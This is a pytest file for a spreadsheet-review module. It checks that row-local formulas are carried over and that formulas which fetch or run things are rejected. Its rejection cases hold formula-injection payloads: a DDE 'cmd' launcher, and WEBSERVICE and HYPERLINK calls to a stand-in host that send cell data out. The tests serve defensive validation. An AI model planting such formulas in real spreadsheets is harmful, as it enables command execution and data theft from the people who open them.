"""A formula in a reviewer's own column is carried where it only reckons with its own row."""

from __future__ import annotations

import pytest

from yoy.model import RowFormula
from yoy.review.formulas import harmless, portable

NAMES = {1: "key", 2: "value_2018", 3: "own:折算"}


@pytest.mark.parametrize("formula", ["=ROUND(B5*1.5,1)", '=IF(B5>0,"WEBSERVICE(|)","")', "=B5/2"])
def test_what_reckons_is_carried(formula: str) -> None:
    assert harmless(formula)
    assert portable(formula, 5, NAMES) == RowFormula(formula.replace("B5", "{value_2018}"))


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x.example/"&B5)',
        "=cmd|'/C calc'!B5",
        '=HYPERLINK("http://x.example",B5)',
        "=CALL(B5)",
    ],
)
def test_what_fetches_or_runs_is_not(formula: str) -> None:
    assert not harmless(formula)
    assert portable(formula, 5, NAMES) is None
